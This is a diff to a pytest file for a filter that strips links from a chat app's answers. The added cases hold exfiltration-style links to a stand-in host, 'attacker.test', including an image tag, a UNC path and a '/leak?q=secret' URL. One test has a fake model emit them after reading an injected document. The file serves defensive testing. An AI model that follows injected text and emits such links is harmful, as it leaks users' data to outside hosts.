@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import Iterator
 
 import pytest
@@ -32,6 +33,18 @@ LINK_CASES = [
     ("[a](javascript:alert)", "a"),
     ("[http://attacker.test](http://attacker.test)", LINK_REMOVED),
     ("No links here [2].", "No links here [2]."),
+    # Forms a browser or autolinker still reads as another host (review finding 14).
+    ('<img src="https:attacker.test/x">', f'<img src="{LINK_REMOVED}">'),
+    ("Open \\\\attacker.test\\share now", f"Open {LINK_REMOVED} now"),
+    ("Send attacker.test/leak?q=secret now", f"Send {LINK_REMOVED} now"),
+    ("Go to /\\attacker.test/x", f"Go to {LINK_REMOVED}"),
+    ("Go to https:\\\\attacker.test/x", f"Go to {LINK_REMOVED}"),
+    ("See //attacker.test/x", f"See {LINK_REMOVED}"),
+    ("x_attacker.test:8080/x", f"x_{LINK_REMOVED}"),
+    (
+        "Plain prose: data, e.g. file: notes and/or v2.0/3 stay.",
+        "Plain prose: data, e.g. file: notes and/or v2.0/3 stay.",
+    ),
 ]
 
 
@@ -68,6 +81,14 @@ def test_streamed_text_is_released_as_soon_as_it_cannot_become_a_link() -> None:
     assert links.finish() == "more"
     kept = "See [wiki](https://intranet.example/leave) now"
     assert "".join(streamed(kept, 4, ("intranet.example",))) == kept
+
+
+def test_unclosed_targets_cost_linear_time() -> None:
+    # The review measured 214 ms for 8000 spaces (quadratic); 64000 must not take long.
+    start = time.perf_counter()
+    assert neutralize_links("[a](" + " " * 64000).startswith("[a](")
+    assert "".join(streamed("[a](" + " " * 8000, 50)).startswith("[a](")
+    assert time.perf_counter() - start < 0.5
 
 
 def test_allowed_hosts_keep_https_links_only() -> None:
@@ -113,3 +134,25 @@ def test_an_injected_image_never_reaches_the_answer(app: Flask, client: FlaskCli
     chat = {"messages": [{"role": "user", "content": question["question"]}]}
     reply = client.post("/v1/chat/completions", json=chat).get_json()
     assert "attacker" not in reply["choices"][0]["message"]["content"]
+
+
+def test_f14_other_link_forms_never_reach_the_answer(app: Flask, client: FlaskClient) -> None:
+    """Review finding 14: a scheme without slashes, a UNC path and a bare domain with a path
+    passed the filter; through the API, whole and streamed."""
+    upload(client, name="leave.txt", text=INJECTED)
+    fake = fake_model(app.extensions["enclave"].components)
+    obeyed = (
+        'Parental leave lasts 16 weeks <img src="https:attacker.test/x.png"> at full pay '
+        "\\\\attacker.test\\share attacker.test/leak?q=weeks [1]."
+    )
+    question = {"question": "How long is parental leave?"}
+    fake.enqueue(obeyed)
+    body = client.post("/api/v1/ask", json=question).get_json()
+    assert body["answer"].strip() and "attacker" not in body["answer"]
+    fake.enqueue(obeyed)
+    streamed = client.post("/api/v1/ask", json={**question, "stream": True})
+    events = parse_sse(streamed.get_data(as_text=True))
+    tokens = "".join(json.loads(data)["text"] for name, data in events if name == "token")
+    assert "16 weeks" in tokens and "attacker" not in tokens
+    done = [json.loads(data) for name, data in events if name == "done"]
+    assert "attacker" not in done[0]["answer"]
